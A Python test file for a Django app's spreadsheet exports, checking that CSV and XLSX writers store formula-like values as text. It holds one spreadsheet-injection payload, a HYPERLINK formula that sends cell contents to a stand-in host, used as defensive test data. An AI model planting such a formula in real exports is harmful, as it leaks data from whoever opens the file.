"""Exports carry no formulas: text a spreadsheet would run is stored as text."""

import csv
import io
import zipfile

from django.urls import reverse
from openpyxl import load_workbook

from gugus.core.roles import Role
from gugus.core.sheets import CsvWriter, XlsxWriter
from tests.factories import GroupFactory, user_with_role

ATTACK = '=HYPERLINK("http://x/?"&A1,"klik")'


def test_every_formula_start_is_neutralised_in_xlsx():
    book = XlsxWriter()
    sheet = book.sheet("T")
    values = [ATTACK, "+62 811", "-1+2", "@SUM(A1)", "\t=1", "Aman", 12, -5]
    sheet.append(values)
    cells = next(load_workbook(io.BytesIO(book.bytes())).active.iter_rows())
    assert [c.value for c in cells] == values
    assert all(c.data_type == "s" for c in cells[:6])
    assert all(c.quotePrefix for c in cells[:5]) and not cells[5].quotePrefix
    assert [c.data_type for c in cells[6:]] == ["n", "n"]


def test_csv_cells_are_prefixed():
    out = io.StringIO()
    CsvWriter(out).writerow([ATTACK, "@x", "-2", "Aman", 3])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [
        "'" + ATTACK,
        "'@x",
        "'-2",
        "Aman",
        "3",
    ]


def test_a_group_named_as_a_formula_exports_as_text(client, db):
    GroupFactory(name=ATTACK)
    client.force_login(user_with_role(Role.ADMIN_KABKOTA, regency_id="34.71"))
    response = client.get(reverse("group_export"))
    sheet = load_workbook(io.BytesIO(response.content)).active
    cell = sheet.cell(row=2, column=1)
    assert (cell.value, cell.data_type) == (ATTACK, "s")
    raw = io.BytesIO(response.content)

    with zipfile.ZipFile(raw) as package:
        xml = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
